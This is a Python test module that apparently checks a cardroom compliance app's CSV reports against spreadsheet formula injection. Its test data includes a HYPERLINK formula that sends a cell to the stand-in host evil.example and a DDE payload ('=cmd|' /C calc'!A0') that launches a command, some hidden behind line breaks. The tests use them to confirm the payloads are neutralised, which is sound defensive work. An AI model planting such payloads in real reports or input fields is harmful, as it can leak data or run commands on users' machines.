"""No report CSV carries a live spreadsheet formula (docs/reports.md, "Cells a spreadsheet
would run"): a patron, a table or a void reason named like a formula is written as text.

The compliance day (tests/builders/reports.py) with its names replaced by formulas; every
CSV report is generated and every cell read back as a spreadsheet would read it, two ways
(``tests.spreadsheet``): as RFC 4180 says, and as a spreadsheet that breaks a row at every
line break, even inside a quoted cell. Then the issue's two inputs, a line break before a
formula, through the real paths: a sign-in typed as ``x\r=cmd|' /C calc'!A0`` on the audit
trail, and a patron named ``Bob\r=1+2``.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from cardroom.errors import State
from console.audit_export import REPORT_TYPE as STAFF_ACTIONS
from console.models import StaffAction
from fees.services import schedules
from rounds import services as rounds
from tables.models import Player, Table
from tables.services import floor
from tests.builders.money import Wager, play_round
from tests.builders.reports import DAY, NEXT_DAY, at, plant_tppp_hand
from tests.builders.theo import rig, rigged_table
from tests.reports.helpers import generate_bytes, read_csv
from tests.spreadsheet import cells, live_cells

pytestmark = pytest.mark.django_db

TABLE = '=HYPERLINK("http://evil.example/?"&A1,"Day table")'
# As written: an apostrophe first, and one after the comma before a quote.
TABLE_CELL = '\'=HYPERLINK("http://evil.example/?"&A1,\'"Day table")'
PATRON = "=cmd|' /C calc'!A0"
DEALER = "@SUM(A1:A9)"
TPPP = "+1+2"
NUMBER = "-2+3"
VOID = "=1+2 misdeal"


@pytest.fixture
def formula_day(day):
    Table.objects.filter(pk=day.table.pk).update(name=TABLE)
    Player.objects.filter(pk=day.p3.pk).update(name=PATRON)
    Player.objects.filter(pk=day.player(6).pk).update(name=DEALER)
    Player.objects.filter(pk=day.player(5).pk).update(name=TPPP, player_number=NUMBER)
    plant_tppp_hand(day, void_reason=VOID)
    return day


def assert_no_live_cell(data: bytes) -> None:
    assert live_cells(data) == []


@pytest.mark.parametrize("report", ["rotation", "banking", "audit", "currency", "table_activity"])
def test_no_report_csv_carries_a_formula(formula_day, report):
    data = generate_bytes(report, gaming_day=DAY)[0]
    assert_no_live_cell(data)
    assert TABLE_CELL in cells(data)


def test_the_currency_log_names_the_patron_as_text(formula_day):
    _, sections = read_csv(generate_bytes("currency", gaming_day=DAY)[0])
    rows = sections["Currency transactions per patron per gaming day"]
    assert "'=cmd\\|' /C calc'!A0" in {row["player_name"] for row in rows}
    ctr = sections["Currency Transaction Report candidates: over $10,000 in one gaming day"]
    assert [(row["player_name"], row["cash_in_cents"]) for row in ctr] == [
        ("'=cmd\\|' /C calc'!A0", "1050000")
    ]


def test_the_banking_report_keeps_negative_amounts_as_numbers(formula_day):
    _, sections = read_csv(generate_bytes("banking", gaming_day=DAY)[0])
    (patron,) = sections["Other player-dealers by gaming day"]
    assert (patron["player_name"], patron["result_cents"]) == ("'" + DEALER, "-10000")
    (tppp,) = sections["TPPP player-dealers by gaming day"]
    assert (tppp["player"], tppp["player_name"]) == ("'" + NUMBER, "'" + TPPP)


def test_the_audit_export_neutralises_names_and_the_void_reason(formula_day):
    _, sections = read_csv(generate_bytes("audit", gaming_day=DAY)[0])
    rounds = sections["Rounds"]
    assert {row["table"] for row in rounds} == {TABLE_CELL}
    assert [row["void_reason"] for row in rounds] == ["", "", "'" + VOID]
    assert [row["bank_result_cents"] for row in rounds][:1] == ["-10000"]


def test_the_fee_filing_csv_neutralises_the_schedule_and_the_table(formula_day):
    supervisor = formula_day.mt.staff.supervisor
    schedule = schedules.create_schedule(name=PATRON, table_id=formula_day.table.pk, by=supervisor)
    schedules.create_version(
        schedule_id=schedule.pk,
        rates=[
            {
                "wager_from_cents": 100,
                "wager_to_cents": 10_000,
                "player_fee_cents": 50,
                "player_dealer_fee_cents": 25,
            },
        ],
        player_dealer_basis="per_betting_square",
        by=supervisor,
    )
    data = generate_bytes("fee_filing", gaming_day=NEXT_DAY)[0]
    assert_no_live_cell(data)
    identity = list(csv.reader(io.StringIO(data.decode())))[1][:2]
    assert identity == [TABLE_CELL, "'=cmd\\|' /C calc'!A0"]


# --- A line break, then a formula: the two inputs, through the real paths ----------

SIGN_IN = "x\r=cmd|' /C calc'!A0"
BOB = "Bob\r=1+2"
# As every reader reads them back: the apostrophe after the break, the pipe escaped.
SIGN_IN_CELL = "x\r'=cmd\\|' /C calc'!A0"
BOB_CELL = "Bob\r'=1+2"
# Every CSV report, and where the two inputs show in it: the staff-action trail's export has
# the sign-in; the others name the patrons (``Bob``), their numbers (the sign-in's text, a
# number after it) or the table and its fee schedule. The anomaly report's names:
# tests/reports/services/test_anomaly_report.py (a player-dealer beyond theo takes 24 hands).
REPORTS = {
    "rotation": (BOB_CELL, SIGN_IN_CELL),
    "banking": (BOB_CELL, SIGN_IN_CELL),
    "audit": (BOB_CELL, SIGN_IN_CELL),
    "currency": (BOB_CELL, SIGN_IN_CELL),
    "table_activity": (BOB_CELL,),
    "fee_filing": (BOB_CELL, SIGN_IN_CELL),
    STAFF_ACTIONS: (SIGN_IN_CELL,),
}


@pytest.fixture
def line_break_day(day, clock, client):
    """The compliance day with the two inputs typed where the floor types them: every
    player's name corrected to ``Bob\r=1+2`` and their numbers to the sign-in's text (the
    supervisor's correction); a table named ``Bob\r=1+2`` playing a hand, with a fee
    schedule named like the sign-in and a hand voided for that reason; and the sign-in
    itself, refused."""
    staff = day.mt.staff
    clock.set(at("2026-11-20T23:00:00"))
    table = rigged_table(staff, name=BOB)
    schedule = schedules.create_schedule(name=SIGN_IN, table_id=table.table.pk, by=staff.supervisor)
    schedules.create_version(
        schedule_id=schedule.pk,
        rates=[{"wager_from_cents": 500, "wager_to_cents": 50_000, "player_fee_cents": 100,
                "player_dealer_fee_cents": 100}],
        player_dealer_basis="per_betting_square",
        by=staff.supervisor,
    )  # fmt: skip
    players = [day.p3, *(day.player(seat) for seat in (1, 2, 5, 6)), *table.seated.values()]
    for index, player in enumerate(players):
        floor.update_player_identification(
            player_id=player.pk,
            by=staff.supervisor,
            changes={"name": BOB, "player_number": SIGN_IN + (f" {index}" if index else "")},
        )
    rig(table, clock, hands=1)
    clock.advance(minutes=1)
    voided = play_round(table, pd_seat=2, bank=20_000, wagers=[Wager(3, 500)], until=State.WAGERING)
    rounds.void_round(round_id=voided.pk, by=staff.dealer, reason=SIGN_IN)
    client.post(reverse("console:login"), {"username": SIGN_IN, "password": "not it"})
    assert StaffAction.objects.filter(username=SIGN_IN).exists()
    return day


@pytest.mark.parametrize("report", list(REPORTS))
def test_a_line_break_before_a_formula_is_text_in_every_report(line_break_day, report):
    gaming_day = NEXT_DAY if report == "fee_filing" else DAY
    data = generate_bytes(report, gaming_day=gaming_day)[0]
    assert data.endswith(b"\r\n")
    assert live_cells(data) == []
    written = cells(data)
    for text in REPORTS[report]:
        assert [cell for cell in written if cell.startswith(text)], text
